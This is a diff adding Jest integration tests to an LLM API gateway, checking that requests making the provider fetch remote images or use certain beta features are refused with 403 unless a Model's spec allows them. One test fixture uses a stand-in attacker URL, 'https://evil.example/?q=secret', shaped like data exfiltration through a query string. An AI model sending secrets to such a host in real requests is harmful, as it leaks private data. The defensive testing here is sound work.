@@ -1,5 +1,6 @@
 import { brotliCompressSync, gzipSync, zstdCompressSync } from "node:zlib";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "@jest/globals";
+import { models } from "#nervous-system/kubernetes/swarm-kinds.ts";
 import { providerAnswers } from "#test/builders/provider-answers.ts";
 import { begin, post, startTestGateway, type TestGateway } from "#test/integration/gateway/gateway-harness.ts";
 import { startTestUpstream, type TestUpstream } from "#test/integration/gateway/https-upstream.ts";
@@ -249,5 +250,52 @@ describe("an endpoint that refuses the token counts that the gateway asks for", 
     const own = { ...streamed, stream_options: { include_usage: true } };
     expect(await post(gateway, chat, token, own)).toMatchObject({ status: 422 });
     expect(upstream.asked).toHaveLength(1);
+  });
+});
+
+describe("what a provider may do beside answering", () => {
+  const drawing = (url: string) => ({
+    messages: [{ role: "user", content: [{ type: "image_url", image_url: { url } }] }],
+  });
+  const remote = "https://evil.example/?q=secret";
+  const headersOf = (beta: string) => begin(gateway, chat, token, question, { "openai-beta": beta }).answer;
+
+  it("is nothing, unless its Model allows it: a request for it goes nowhere, and its program is told what to change", async () => {
+    answer("{}", { "content-type": "application/json" });
+    const refused = await post(gateway, chat, token, drawing(remote));
+    expect([refused.status, JSON.parse(refused.body)]).toEqual([
+      403,
+      {
+        error: {
+          type: "operation_not_allowed",
+          message: expect.stringMatching(
+            /^messages\[0\]\.content\[0\]\.image_url\.url has the provider fetch .*Model "open".*add RemoteContent to spec\.allow/,
+          ),
+        },
+      },
+    ]);
+    expect((await headersOf("assistants=v2")).statusCode).toBe(403);
+    expect([upstream.asked, gateway.kept.frames]).toEqual([[], []]);
+    expect(await gateway.counted()).toMatch(/enchanted_gateway_refusals_total\{type="operation_not_allowed"\} 2/);
+    expect((await post(gateway, chat, token, drawing("data:image/png;base64,iVBORw0KGgo="))).status).toBe(200);
+    expect((await headersOf("responses=experimental")).statusCode).toBe(200);
+  });
+
+  it("is what its Model allows, from the moment it does", async () => {
+    const own = await newModel("allowing");
+    answer("{}", { "content-type": "application/json" });
+    expect((await post(gateway, chat, own, drawing(remote))).status).toBe(403);
+    const { metadata } = await test.admin.get(models, { namespace, name: "allowing" });
+    const { uid, resourceVersion } = metadata;
+    const ref = { namespace, name: "allowing", uid, resourceVersion };
+    await test.admin.patch(models, ref, { spec: { allow: ["RemoteContent"] } });
+    await eventually("it passes", async () => (await post(gateway, chat, own, drawing(remote))).status === 200);
+    expect(JSON.parse(upstream.asked.at(-1)?.body ?? "")).toMatchObject(drawing(remote));
+    expect((await post(gateway, chat, own, { ...question, tools: [{ type: "mcp" }] })).status).toBe(403);
+  });
+
+  it("is one of the operations that there are", async () => {
+    const spec = { endpoint: upstream.url, allow: ["Everything" as never] };
+    await expect(createModel(test.admin, namespace, "all", spec)).rejects.toThrow(/allow.*Unsupported value/s);
   });
 });
